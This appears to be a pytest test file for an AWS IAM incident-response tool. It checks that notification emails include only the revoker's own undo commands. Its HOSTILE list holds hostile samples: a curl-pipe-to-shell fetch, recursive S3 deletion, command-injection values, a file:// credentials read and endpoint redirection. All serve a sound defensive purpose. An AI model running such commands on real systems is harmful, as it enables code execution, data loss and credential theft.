"""Of a report's commands a mail prints those that a revoker writes, and no others."""

from __future__ import annotations

from typing import Any

import pytest

from handler.model.cloudtrail import CallerKind
from handler.model.principal import Target
from handler.model.report import ReportedImpact
from handler.notifier.mail.incident_mail import mail_body
from handler.notifier.messages.allowed_commands import (
    IAM_OPTIONS,
    undoes_containment,
    undoes_impact,
)
from handler.notifier.messages.inbox import STRANGE_COMMAND
from handler.revoker.deny.methods import ROLE_METHOD_CALLS, SESSION_METHOD_CALLS, USER_METHOD_CALLS
from tests.handler.impacts.tables import CASES as IMPACT_CASES
from tests.notifier.central import ACCOUNT, detached, given_report, read_notice, report_body
from tests.notifier.mail.handler_cases import CASES, reported_of
from tests.notifier.mail.test_incident_mail import WORDS, given_incident, reported

OURS = f"arn:aws:iam::{ACCOUNT}:policy/iam-org-revoker/iam-org-revoker-deny"
NAMES = ("mallory", "-x", "a b", "it's", "eve\u202e", "$(id)", "a=b", "--policy-arn=x")
RELEASE = ("python", "-m", "responder", "release", ACCOUNT)


def products_impacts() -> list[tuple[str, ...]]:
    return [
        tuple(command)
        for case in IMPACT_CASES
        for impact in case.impacts
        for command in impact.get("undo", ())
    ]


def test_every_undo_of_the_gain_tables_passes_and_no_call_is_known_that_none_has() -> None:
    commands = products_impacts()
    assert [one for one in commands if not undoes_impact(one, account=ACCOUNT)] == []
    methods = {"delete-role-permissions-boundary"}
    assert {command[2] for command in commands} | methods == set(IAM_OPTIONS)


@pytest.mark.parametrize("partition", ["aws", "aws-us-gov", "aws-cn"])
@pytest.mark.parametrize("name", NAMES)
def test_every_undo_of_a_deny_method_passes(name: str, partition: str) -> None:
    for kind, steps in (
        (CallerKind.USER, (*USER_METHOD_CALLS, *SESSION_METHOD_CALLS)),
        (CallerKind.ROLE, ROLE_METHOD_CALLS),
    ):
        target = Target(kind=kind, name=name, id="", account=ACCOUNT, partition=partition)
        for step in steps:
            command = step.command(target)
            assert undoes_containment(command, account=ACCOUNT, partition=partition), command


def test_what_an_earlier_installation_kept_may_be_taken_off_and_nothing_called_like_it() -> None:
    kept = f"arn:aws:iam::{ACCOUNT}:policy/iam-org-revoker-kept/iam-org-revoker-kept"
    for command in (
        ("detach-user-policy", "--user-name=eve", f"--policy-arn={kept}"),
        ("detach-user-policy", "--user-name=eve", f"--policy-arn={kept}-sessions"),
        ("detach-role-policy", "--role-name=eve", f"--policy-arn={kept}"),
        ("remove-user-from-group", "--user-name=eve", "--group-name=iam-org-revoker-kept"),
        ("remove-user-from-group", "--user-name=eve", "--group-name=iam-org-revoker-kept-sessions"),
    ):
        given = ("aws", "iam", *command)
        assert undoes_containment(given, account=ACCOUNT, partition="aws"), given
        other = (*given[:-1], f"{given[-1]}-2")
        assert not undoes_containment(other, account=ACCOUNT, partition="aws"), other


@pytest.mark.parametrize("name", CASES)
def test_of_the_handlers_own_reports_nothing_is_left_out(name: str) -> None:
    world = CASES[name]()
    notice = reported_of(world)
    report = world.bus.reports()[-1]
    assert notice.undo == report.undo
    assert [impact.undo for impact in notice.impacts] == [impact.undo for impact in report.impacts]
    assert STRANGE_COMMAND not in notice.notes


HOSTILE: list[Any] = [
    ("bash", "-c", "curl -s 192.0.2.66 | sh"),
    ("aws",),
    ("aws", "iam"),
    ("aws", "s3", "rm", "--recursive", "s3://example"),
    ("aws", "iam", "delete-user;id", "--user-name=mallory"),
    ("aws", "iam", "create-access-key", "--user-name=root-like"),
    ("aws", "iam", "put-user-policy", "--user-name=mallory", "--policy-document=file://x"),
    ("aws", "iam", "delete-user", "--user-name", "mallory"),
    ("aws", "iam", "delete-user", "--user-name=mallory", "--user-name=alice"),
    ("aws", "iam", "delete-user", "--user-name=mallory", "--endpoint-url=https://192.0.2.66"),
    ("aws", "iam", "delete-user", "--user-name=mallory", "--no-verify-ssl"),
    ("aws", "iam", "delete-user", "--user-name=mallory", "--profile=other"),
    ("aws", "iam", "delete-user", "--user-name=mallory", "; id"),
    ("aws", "iam", "delete-user", "--user-name="),
    ("aws", "iam", "delete-user", "--user-name=file://~/.aws/credentials"),
    ("aws", "iam", "delete-user", "--user-name=FILEB://x"),
    ("aws", "iam", "delete-user", "--user-name=https://192.0.2.66/x"),
    ("aws", "--endpoint-url=https://192.0.2.66", "iam", "delete-user", "--user-name=x"),
    ("/tmp/aws", "iam", "delete-user", "--user-name=mallory"),
    ("python", "-c", "import os"),
    ("python", "-m", "http.server"),
    (*RELEASE, "AIDAEXAMPLE000000003", "--reason", "because; id"),
    (*RELEASE, "AIDAEXAMPLE000000003", "--reason", "WHY", "--yes"),
    (*RELEASE, "--yes", "--reason", "WHY"),
    ("python", "-m", "responder", "release", "999988887777", "AIDAEXAMPLE", "--reason", "WHY"),
    ("python", "-m", "responder", "ledger", ACCOUNT, "mallory", "--member", "--reason", "WHY"),
    (),
]


@pytest.mark.parametrize("command", HOSTILE, ids=" ".join)
def test_a_hostile_command_is_left_out_and_the_mail_says_so(command: tuple[str, ...]) -> None:
    impact = ReportedImpact(what="a new user 'accomplice'", undo=(command,))
    for undo, impacts in (((command,), ()), ((), (impact,))):
        notice = read_notice(report_body(undo=undo, impacts=impacts))
        assert notice.undo == ()
        assert all(one.undo == () for one in notice.impacts)
        body = mail_body(WORDS, given_incident(notice))
        assert "A command in the report was left out" in body
        assert "192.0.2.66" not in body


@pytest.mark.parametrize(
    "command",
    [
        ("aws", "iam", "add-user-to-group", "--group-name=Administrators", "--user-name=mallory"),
        ("aws", "iam", "remove-user-from-group", "--group-name=Administrators", "--user-name=a"),
        ("aws", "iam", "detach-user-policy", "--user-name=a", "--policy-arn=arn:aws:iam::aws:x"),
        ("aws", "iam", "detach-user-policy", "--user-name=a"),
        ("aws", "iam", "delete-user-policy", "--user-name=a", "--policy-name=guard"),
        ("aws", "iam", "delete-user", "--user-name=a"),
        (*RELEASE, "AIDAEXAMPLE000000003", "--reason", "WHY"),
    ],
)
def test_a_containment_is_undone_by_taking_off_our_own_deny_alone(command: tuple[str, ...]) -> None:
    notice = read_notice(report_body(undo=(detached("mallory"), command)))
    assert notice.undo == (detached("mallory"),)
    assert STRANGE_COMMAND in notice.notes


def test_a_deny_of_another_account_is_not_ours() -> None:
    theirs = (*detached("mallory")[:4], f"--policy-arn={OURS.replace(ACCOUNT, '999988887777')}")
    assert read_notice(report_body(undo=(theirs,))).undo == ()
    assert read_notice(report_body(partition=".*", undo=(detached("mallory"),))).undo == ()


def test_a_client_id_may_be_a_url_but_no_file() -> None:
    provider = "--open-id-connect-provider-arn=arn:aws:iam::111122223333:oidc-provider/example.com"
    verb = "remove-client-id-from-open-id-connect-provider"
    for client, passes in (("https://github.com/acme", True), ("file://x", False)):
        command = ("aws", "iam", verb, provider, f"--client-id={client}")
        assert undoes_impact(command, account=ACCOUNT) is passes


def test_what_is_left_out_leaves_the_rest_of_the_report_alone() -> None:
    whole, cut = read_notice(report_body()), read_notice(report_body(undo=(("id",),)))
    assert cut.facts == whole.facts
    assert given_report().undo
    assert "(the report names no command)" in mail_body(WORDS, reported(undo=(("id",),)))
